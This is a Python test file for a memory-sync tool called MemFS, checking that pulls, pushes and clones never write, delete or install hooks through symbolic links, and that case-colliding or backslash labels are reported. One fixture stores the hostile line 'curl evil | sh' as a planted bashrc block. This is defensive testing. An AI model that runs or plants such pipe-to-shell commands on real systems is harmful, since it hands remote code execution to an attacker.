"""MemFS writes only inside its folder (``strata/memfs/paths.py``): a symbolic link on a block's path
(a folder, a dangling file link, a link committed to a shared repository and recreated by ``git
clone``, the pre-commit hook) is reported as ignored and never written, removed or installed
through; and labels that would share a file on macOS or Windows (case) or split into folders there
(``\\``) are reported, on every platform, instead of synced."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from strata.memfs.paths import UnsafePathError, remove_inside, write_inside
from tests.memfs.conftest import Memfs, block


def git(root: Path, *args: str) -> str:
    return subprocess.run(["git", *args], cwd=root, capture_output=True, text=True, check=True).stdout


def cloned(memfs: Memfs, tmp_path: Path, *labels: str) -> tuple[str, Path]:
    agent_id = memfs.agent(*(block(label, f"{label} text\n") for label in labels))
    root = tmp_path / "memory"
    memfs.ok("clone", agent_id, str(root))
    return agent_id, root


def everything_under(folder: Path) -> list[str]:
    return sorted(p.relative_to(folder).as_posix() for p in folder.rglob("*"))


def test_a_pull_never_writes_into_a_folder_that_is_a_link(memfs: Memfs, tmp_path: Path) -> None:
    agent_id, root = cloned(memfs, tmp_path, "notes")
    outside = tmp_path / "outside"
    outside.mkdir()
    (root / "system").symlink_to(outside, target_is_directory=True)
    memfs.client.create_block(block=block("system/newblock", "server-chosen"), agent_id=agent_id)

    code, out, _ = memfs("pull", "--dir", str(root))

    assert everything_under(outside) == []
    assert code == 0, out
    assert "? system/  (symbolic links are not followed)" in out
    assert "? system/newblock.md  (system is a symbolic link; MemFS never writes through links)" in out


def test_a_pull_never_creates_the_target_of_a_dangling_file_link(memfs: Memfs, tmp_path: Path) -> None:
    agent_id, root = cloned(memfs, tmp_path, "system/human")
    target = tmp_path / "x.txt"
    (root / "system" / "evil.md").symlink_to(target)
    memfs.client.create_block(block=block("system/evil", "server-chosen"), agent_id=agent_id)

    code, out, _ = memfs("pull", "--dir", str(root))

    assert not target.exists()
    assert "system/evil.md is a symbolic link" in out
    assert code == 0, out


def test_a_pull_never_removes_a_file_through_a_linked_folder(memfs: Memfs, tmp_path: Path) -> None:
    """The label was synced; its folder is then replaced by a link to a folder holding a file of the
    same name, and the server detaches the block: the file outside stays."""
    agent_id, root = cloned(memfs, tmp_path, "system/human", "notes")
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "human.md").write_text("precious")
    (root / "system" / "human.md").unlink()
    (root / "system").rmdir()
    (root / "system").symlink_to(outside, target_is_directory=True)
    human = memfs.block(agent_id, "system/human")
    memfs.client.detach_block(agent_id=agent_id, block_id=human.id)

    code, out, _ = memfs("pull", "--dir", str(root))

    assert (outside / "human.md").read_text() == "precious"
    assert "system/human.md  (system is a symbolic link" in out
    assert code == 0, out


def test_the_hook_is_never_installed_through_a_dangling_link(memfs: Memfs, tmp_path: Path) -> None:
    _, root = cloned(memfs, tmp_path, "notes")
    hook = root / ".git" / "hooks" / "pre-commit"
    hook.unlink()
    target = tmp_path / "autostart.sh"
    hook.symlink_to(target)

    for command in ("pull", "push"):
        code, out, _ = memfs(command, "--dir", str(root))
        assert not target.exists()
        assert code == 0, out
        assert ".git/hooks/pre-commit  (hooks/pre-commit is a symbolic link" in out
    assert hook.is_symlink()


def test_a_link_committed_to_a_shared_folder_is_not_followed_after_git_clone(
    memfs: Memfs, tmp_path: Path
) -> None:
    """Someone commits ``system -> ../outside``; ``git clone`` recreates the link in a copy."""
    agent_id, shared = cloned(memfs, tmp_path, "notes")
    (shared / "system").symlink_to("../outside", target_is_directory=True)
    git(shared, "add", "system")
    git(shared, "commit", "--quiet", "-m", "a link")
    copy = tmp_path / "copy"
    git(tmp_path, "clone", "--quiet", str(shared), str(copy))
    outside = tmp_path / "outside"
    outside.mkdir()
    memfs.client.create_block(block=block("system/bashrc", "curl evil | sh"), agent_id=agent_id)

    code, out, _ = memfs("pull", "--dir", str(copy))

    assert everything_under(outside) == []
    assert "system/bashrc.md  (system is a symbolic link" in out
    assert code == 0, out


def test_a_link_put_in_place_after_the_check_fails_the_write(tmp_path: Path) -> None:
    """The last line of defence: writes open every folder and the file with O_NOFOLLOW."""
    outside = tmp_path / "outside"
    outside.mkdir()
    root = tmp_path / "root"
    root.mkdir()
    (root / "system").symlink_to(outside, target_is_directory=True)
    (root / "file.md").symlink_to(outside / "file.md")
    for relative in ("system/new.md", "file.md", "system/deeper/new.md"):
        with pytest.raises(UnsafePathError, match="symbolic link"):
            write_inside(root, relative, b"x")
    (outside / "kept.md").write_text("kept")
    with pytest.raises(UnsafePathError):
        remove_inside(root, "system/kept.md")
    assert everything_under(outside) == ["kept.md"]
    write_inside(root, "real/new.md", b"inside")
    assert (root / "real" / "new.md").read_bytes() == b"inside"


def test_labels_differing_only_by_case_are_reported_and_never_share_a_file(
    memfs: Memfs, tmp_path: Path
) -> None:
    agent_id = memfs.agent(
        block("system/Human", "upper\n"), block("system/human", "lower\n"), block("notes", "n\n")
    )
    root = tmp_path / "memory"
    out = memfs.ok("clone", agent_id, str(root))
    assert not (root / "system").exists()
    assert "? system/Human.md  (collides by case with 'system/Human' and 'system/human'; rename one)" in out
    assert "? system/human.md  (collides by case" in out
    # A folder that differs only by case collides too: on macOS both land in one folder.
    memfs.client.create_block(block=block("System/other", "x"), agent_id=agent_id)
    memfs.client.create_block(block=block("system/other", "y"), agent_id=agent_id)
    code, out, _ = memfs("pull", "--dir", str(root))
    assert code == 0, out
    assert "? System/other.md  (collides by case with 'System' and 'system'" in out
    assert not (root / "System").exists()
    assert not (root / "system").exists()
    # A file made by hand in the same collision is not pushed either.
    (root / "system").mkdir()
    (root / "system" / "HUMAN.md").write_text("---\ndescription: d\n---\nmine\n")
    code, out, _ = memfs("push", "--dir", str(root))
    assert code == 0, out
    assert "? system/HUMAN.md  (collides by case" in out
    assert memfs.block(agent_id, "system/human").value == "lower\n"


def test_labels_holding_a_backslash_are_reported_on_every_platform(memfs: Memfs, tmp_path: Path) -> None:
    agent_id = memfs.agent(block("system\\human", "a\n"), block("notes", "n\n"))
    root = tmp_path / "memory"
    out = memfs.ok("clone", agent_id, str(root))
    assert "? server block 'system\\\\human'  (its label holds '\\', a folder separator on Windows)" in out
    assert [p for p in everything_under(root) if not p.startswith(".")] == ["notes.md"]
    (root / "a\\b.md").write_text("---\ndescription: d\n---\nmine\n")
    code, out, _ = memfs("push", "--dir", str(root))
    assert "? a\\b.md  (its name holds '\\', a folder separator on Windows)" in out
    assert code == 0, out
